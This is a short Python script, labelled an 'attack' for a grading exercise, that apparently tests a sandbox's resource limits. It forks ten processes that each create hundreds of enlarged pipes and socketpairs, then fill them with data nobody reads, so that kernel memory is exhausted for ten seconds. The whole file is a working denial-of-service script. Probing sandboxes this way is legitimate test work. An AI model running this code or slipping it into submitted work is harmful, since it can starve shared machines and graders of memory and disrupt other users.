# attack: fills pipes and sockets with what nobody reads, in many processes: memory that the kernel holds for them
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import fcntl
import os
import socket
import time

held, pipes = 0, []
children = []
for _ in range(10):
    if (pid := os.fork()) == 0:
        try:
            for _ in range(200):
                read_end, write_end = os.pipe()
                fcntl.fcntl(write_end, 1031, 1 << 20)
                os.set_blocking(write_end, False)
                os.write(write_end, b"x" * (1 << 20))
        except OSError:
            pass
        try:
            for _ in range(200):
                a, b = socket.socketpair()
                pipes.append((a, b))
                a.setblocking(False)
                a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                while True:
                    try:
                        a.send(b"x" * 65536)
                    except BlockingIOError:
                        break
        except OSError:
            pass
        time.sleep(10)
        os._exit(0)
time.sleep(1)
print("TRIED")
